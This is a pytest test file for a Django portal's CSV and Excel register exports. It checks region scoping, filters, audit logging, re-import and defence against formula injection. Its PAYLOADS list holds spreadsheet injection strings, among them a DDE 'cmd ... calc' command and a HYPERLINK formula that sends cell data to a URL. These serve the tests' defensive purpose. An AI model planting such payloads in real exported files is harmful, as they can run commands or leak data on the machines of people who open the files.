"""The registers as files: whose rows, which columns, and nothing that a spreadsheet would calculate."""

import re

import pytest

from pmi_portal.audit.models import Event
from stakeholders.models import Contact, FormerName, Institution
from tests.stakeholders.files import parts_of, read_csv, read_xlsx, upload
from tests.support.records import (
    LONG_AGO,
    a_contact,
    a_district,
    a_group,
    a_region,
    a_staff_member,
    an_institution,
    an_officer,
)

pytestmark = pytest.mark.django_db
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "%0A=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\ufeff=1+1",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"klik")',
]
ALIVE = re.compile("^[\\s\ufeff\u200b]*[=+\\-@|%＝＋－＠]|^[\t\r]")  # noqa: RUF001


@pytest.fixture(autouse=True)
def uploads(settings, tmp_path):
    settings.UPLOAD_DIR = tmp_path


@pytest.fixture
def here():
    return a_region()


def downloaded(client, url, kind):
    page = client.post(url, {"kind": kind})
    assert page.status_code == 200
    assert page["Content-Disposition"].startswith("attachment; filename=")
    assert page["X-Content-Type-Options"] == "nosniff"
    return page.getvalue() if page.streaming else page.content


def test_csv_and_excel_hold_the_same_rows(client):
    client.force_login(a_staff_member())
    region, group = a_region(name="Kupang"), a_group(name="LTSA")
    institution = an_institution(
        name="LTSA Kupang",
        region=region,
        group=group,
        district=a_district(region=region, name="Kota Kupang"),
        address="Jalan Merdeka 1",
        is_sample=True,
    )
    FormerName.objects.create(institution=institution, name="LTSA-P2TKI Kupang")
    an_institution(name="Kementerian", group=group, level="national", valid_to=LONG_AGO)

    files = [downloaded(client, "/instansi/ekspor/", kind) for kind in ("csv", "xlsx")]

    heads = ["Nama", "Kelompok", "Wilayah", "Kabupaten/kota", "Tingkat", "Alamat kantor", "Catatan"]
    assert read_csv(files[0]) == [
        [*heads, "Berlaku sampai", "Nama lama", "Data contoh"],
        ["Kementerian", "LTSA", "", "", "pusat", "", "", "2017-07-31", "", "tidak"],
        [
            *("LTSA Kupang", "LTSA", "Kupang", "Kota Kupang", "kabupaten/kota", "Jalan Merdeka 1", ""),
            *("", "LTSA-P2TKI Kupang", "ya"),
        ],
    ]
    excel = [[cell or "" for cell in row] for row in read_xlsx(files[1])]
    assert excel == read_csv(files[0])
    assert files[0].startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("place", ["instansi", "narahubung"])
def test_an_officer_takes_out_the_own_region_and_the_country(client, here, place):
    make = {"instansi": an_institution, "narahubung": a_contact}[place]
    ours, national, foreign = make(region=here), make(), make(region=a_region())
    client.force_login(an_officer(of=here))
    rows = read_csv(downloaded(client, f"/{place}/ekspor/", "csv"))[1:]
    assert {row[0] for row in rows} == {str(ours), str(national)}
    assert str(foreign) not in str(rows)


def test_the_filter_of_the_list_holds_for_the_file(client, here):
    client.force_login(a_staff_member())
    ours = an_institution(region=here)
    an_institution(region=a_region())
    url = f"/instansi/ekspor/?region={here.code}"
    assert client.get(url).context["count"] == 1
    assert [row[0] for row in read_csv(downloaded(client, url, "csv"))[1:]] == [ours.name]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_a_file_is_calculated(client, payload):
    client.force_login(a_staff_member())
    group = a_group(name=payload, code="G")
    region = a_region(name=payload)
    institution = Institution.objects.create(
        name=payload, group=group, region=region, level="district", address=payload, note=payload
    )
    FormerName.objects.create(institution=institution, name=payload)
    Contact.objects.create(
        full_name=payload,
        position=payload,
        group=group,
        region=region,
        phone=payload[:30],
        institution=institution,
    )
    for place in ("instansi", "narahubung"):
        cells = [cell for row in read_csv(downloaded(client, f"/{place}/ekspor/", "csv")) for cell in row]
        assert [cell for cell in cells if ALIVE.match(cell)] == []
        assert [cell for cell in cells if cell == f"'{payload}"]
        sheet = parts_of(downloaded(client, f"/{place}/ekspor/", "xlsx"))["xl/worksheets/sheet1.xml"]
        kinds = set(re.findall(r'<c [^>]*?\bt="(\w+)"', sheet))
        assert kinds <= {"s", "inlineStr"}
        assert not re.search(r"<c(?![^>]*\bt=)[^>]*><v>|<f[ />]", sheet)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_exported_file_comes_back_as_unchanged(client, here, kind):
    client.force_login(an_officer(of=here))
    group = a_group()
    for number, payload in enumerate(PAYLOADS[:4] + PAYLOADS[8:12]):
        institution = an_institution(name=f"{payload} {number}", region=here, group=group, address=payload)
        a_contact(full_name=payload, region=here, group=group, institution=institution, phone="+62 812")
    for place in ("instansi", "narahubung"):
        content = downloaded(client, f"/{place}/ekspor/", kind)
        review = client.post(f"/{place}/impor/", upload(content, f"daftar.{kind}"), follow=True)
        assert {row.kind for row in review.context["page"]} == {"unchanged"}


def test_an_export_stands_in_the_audit_log_once_without_values(client, here):
    officer = an_officer(of=here)
    client.force_login(officer)
    a_contact(region=here, full_name="Suharti")
    before = Event.objects.count()
    downloaded(client, "/narahubung/ekspor/", "csv")
    event = Event.objects.first()
    assert Event.objects.count() == before + 1
    assert (event.action, event.actor) == ("contacts.exported", officer)
    assert event.detail == {"rows": 1, "form": "csv"}


@pytest.mark.parametrize("kind", ["", "ods", "html"])
def test_only_excel_and_csv_leave(client, kind):
    client.force_login(a_staff_member())
    assert client.post("/instansi/ekspor/", {"kind": kind}).status_code == 422


def test_looking_at_the_page_takes_nothing_out(client):
    client.force_login(a_staff_member())
    before = Event.objects.count()
    assert client.get("/narahubung/ekspor/").status_code == 200
    assert Event.objects.count() == before


def test_the_columns_follow_the_language_of_the_page(client):
    client.force_login(a_staff_member())
    an_institution()
    client.cookies["bahasa"] = "en"
    assert len(read_csv(downloaded(client, "/instansi/ekspor/", "csv"))) == 2
